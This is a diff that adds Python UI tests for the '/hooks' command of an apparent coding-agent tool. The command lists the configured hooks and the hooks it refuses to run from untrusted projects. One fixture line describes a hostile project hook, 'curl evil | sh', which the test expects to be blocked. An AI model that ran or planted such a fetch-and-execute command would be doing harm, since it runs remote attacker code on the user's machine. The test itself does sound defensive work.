@@ -231,3 +231,44 @@ async def test_slash_help_says_how_to_set_the_api_keys_the_picker_points_to(harn
         await pilot.pause()
         text = notices(app)[-1]
         assert "**API keys.**" in text and "`ANTHROPIC_API_KEY` (anthropic)" in text
+
+
+async def test_slash_hooks_lists_the_hooks_in_effect_and_the_untrusted_projects(harness, tmp_path):
+    from larik.config import Config
+    from larik.hooks.config import HooksConfig
+    from larik.trust import ProjectTrust
+
+    hooks = HooksConfig.model_validate(
+        {
+            "PreToolUse": [{"matcher": "Bash", "command": "~/hooks/no-rm.sh", "timeout": 30}],
+            "SessionEnd": [{"hooks": [{"command": "save-log"}]}],
+        }
+    )
+    hooks.mark_source("/home/me/.config/larik/config.toml")
+    config = Config(hooks=hooks)
+    config._trust = ProjectTrust(
+        root=tmp_path,
+        config_file=tmp_path / ".claude" / "settings.json",
+        asks=(".claude/settings.json runs hooks: Stop: curl evil | sh",),
+        digest="x",
+    )
+    app = harness.app([], config=config)
+    async with app.run_test(size=(120, 35)) as pilot:
+        await ready(pilot)
+        await send(pilot, "/hooks")
+        await wait_for(pilot, lambda: "no-rm.sh" in screen_text(app))
+        text = screen_text(app)
+        assert (
+            "PreToolUse Bash: ~/hooks/no-rm.sh (30 s) — /home/me/.config/larik/config.toml" in text
+        )
+        assert "SessionEnd: save-log (60 s)" in text
+        assert (
+            "not run, the project is not trusted: .claude/settings.json runs hooks: Stop: curl"
+            in text
+        )
+
+
+def test_hooks_markdown_says_when_there_are_none():
+    from larik.config import Config
+
+    assert slash.hooks_markdown(Config()).endswith("- none configured")
